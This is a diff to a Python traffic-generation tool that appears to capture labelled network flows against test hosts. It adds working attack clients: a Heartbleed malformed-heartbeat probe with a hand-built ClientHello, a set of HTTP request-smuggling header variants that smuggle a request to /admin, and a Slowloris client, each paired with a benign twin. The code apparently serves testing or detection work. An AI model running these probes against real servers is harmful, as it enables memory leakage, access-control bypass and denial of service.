@@ -13,6 +13,7 @@ protocol peers for client-first handshakes, not databases.
 
 from __future__ import annotations
 
+import os
 import socket
 import socketserver
 import struct
@@ -301,6 +302,129 @@ def client_tns(host: str, port: str) -> None:
                              tcp_connect_timeout=5)
         except oracledb.Error as exc:  # accepted then closed, or refused: the exchange is what we record
             print("expected:", exc)
+
+
+# ---------------------------------------------------------------------------- attack clients
+
+
+def _tls_client_hello() -> bytes:
+    """A TLS 1.2 ClientHello as an OpenSSL 1.0.1 client sent it: ECDHE/RSA suites, SNI, groups,
+    point formats, signature algorithms, and the heartbeat extension (peer allowed to send)."""
+    def ext(kind: int, body: bytes) -> bytes:
+        return struct.pack("!HH", kind, len(body)) + body
+
+    name = b"vulnerable.flowmap.test"
+    suites = [0xC02F, 0xC030, 0xC013, 0xC014, 0x009C, 0x009D, 0x002F, 0x0035, 0x00FF]
+    exts = (ext(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name)
+            + ext(10, struct.pack("!HHHH", 6, 0x001D, 0x0017, 0x0018))
+            + ext(11, b"\x01\x00")
+            + ext(13, struct.pack("!HHHHH", 8, 0x0804, 0x0401, 0x0501, 0x0201))
+            + ext(15, b"\x01"))
+    body = (struct.pack("!H", 0x0303) + os.urandom(32) + b"\x00"
+            + struct.pack("!H", 2 * len(suites)) + b"".join(struct.pack("!H", c) for c in suites)
+            + b"\x01\x00" + struct.pack("!H", len(exts)) + exts)
+    hs = b"\x01" + len(body).to_bytes(3, "big") + body
+    return struct.pack("!BHH", 22, 0x0301, len(hs)) + hs
+
+
+def _read_until_hello_done(s: socket.socket) -> bytes:
+    """The server's handshake records up to its ServerHelloDone (handshake type 14)."""
+    buf = b""
+    off = 0
+    while True:
+        while len(buf) < off + 5 or len(buf) < off + 5 + struct.unpack("!H", buf[off + 3:off + 5])[0]:
+            chunk = s.recv(65536)
+            if not chunk:
+                raise EOFError(f"server closed during the handshake after {len(buf)} bytes")
+            buf += chunk
+        typ, n = buf[off], struct.unpack("!H", buf[off + 3:off + 5])[0]
+        if typ != 22:
+            raise RuntimeError(f"record type {typ} during the handshake")
+        # Handshake messages inside the record (whole records only: OpenSSL sends them so).
+        body, i = buf[off + 5:off + 5 + n], 0
+        while i + 4 <= len(body):
+            if body[i] == 14:
+                return buf
+            i += 4 + int.from_bytes(body[i + 1:i + 4], "big")
+        off += 5 + n
+
+
+@client
+def client_heartbeat(host: str, port: str, kind: str) -> None:
+    """The classic Heartbleed probe (kind ``malicious``: a heartbeat request claiming 16384 bytes
+    in a 3-byte record, right after the ServerHelloDone, unencrypted) or its well-formed twin
+    (``benign``: payload and padding as long as the message says). The server's answer (an
+    alert: OpenSSL 3 has no heartbeats) is read until it closes."""
+    for _ in range(2):
+        with socket.create_connection((bare(host), int(port)), timeout=5) as s:
+            s.sendall(_tls_client_hello())
+            _read_until_hello_done(s)
+            if kind == "malicious":
+                message = b"\x01" + struct.pack("!H", 0x4000)
+            else:
+                payload = b"flowmap heartbeat"
+                message = b"\x01" + struct.pack("!H", len(payload)) + payload + os.urandom(16)
+            s.sendall(struct.pack("!BHH", 24, 0x0303, len(message)) + message)
+            try:
+                while s.recv(65536):
+                    pass
+            except (ConnectionResetError, socket.timeout):
+                pass
+
+
+SMUGGLING_REQUESTS = {
+    "cl-te": ("Content-Length: 6", "Transfer-Encoding: chunked"),
+    "cl-cl": ("Content-Length: 5", "Content-Length: 6"),
+    "cl-negative": ("Content-Length: -1",),
+    "te-xchunked": ("Transfer-Encoding: xchunked",),
+    "te-vtab": ("Transfer-Encoding:\x0bchunked",),
+    "te-twice": ("Transfer-Encoding: chunked", "Transfer-Encoding: identity"),
+    "te-space-colon": ("Transfer-Encoding : chunked",),
+}
+
+
+@client
+def client_smuggling(host: str, port: str) -> None:
+    """One connection per smuggling request (``SMUGGLING_REQUESTS``), written raw: the body is a
+    chunked terminator followed by a second request, the smuggled one. The answer is read
+    (400, 501 or whatever the server says) until it closes or 2 s pass."""
+    for name, headers in SMUGGLING_REQUESTS.items():
+        smuggled = f"GET /admin?via={name} HTTP/1.1\r\nHost: web.flowmap.test\r\n\r\n"
+        head = "".join(f"{h}\r\n" for h in headers)
+        request = (f"POST /upload HTTP/1.1\r\nHost: web.flowmap.test\r\nUser-Agent: smuggler\r\n{head}"
+                   f"Connection: close\r\n\r\n0\r\n\r\n{smuggled}")
+        with socket.create_connection((bare(host), int(port)), timeout=2) as s:
+            s.sendall(request.encode("latin-1"))
+            try:
+                while s.recv(65536):
+                    pass
+            except (ConnectionResetError, socket.timeout):
+                pass
+
+
+@client
+def client_slowloris(host: str, port: str, lines: str, gap: str) -> None:
+    """A Slowloris connection: a request line, then one more header line every ``gap`` seconds,
+    ``lines`` of them, never the blank line that ends the headers."""
+    with socket.create_connection((bare(host), int(port)), timeout=5) as s:
+        s.sendall(b"GET /index.html HTTP/1.1\r\nHost: web.flowmap.test\r\n")
+        for i in range(int(lines)):
+            time.sleep(float(gap))
+            s.sendall(f"X-a-{i}: {i}\r\n".encode())
+
+
+@client
+def client_split_request(host: str, port: str) -> None:
+    """An ordinary request written in five pieces 50 ms apart (the closest benign case of a slow
+    client), then its answer read."""
+    request = b"GET /index.html HTTP/1.1\r\nHost: web.flowmap.test\r\nUser-Agent: split\r\nConnection: close\r\n\r\n"
+    with socket.create_connection((bare(host), int(port)), timeout=5) as s:
+        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        for i in range(0, len(request), 20):
+            s.sendall(request[i:i + 20])
+            time.sleep(0.05)
+        while s.recv(65536):
+            pass
 
 
 # ---------------------------------------------------------------------------- servers and listeners
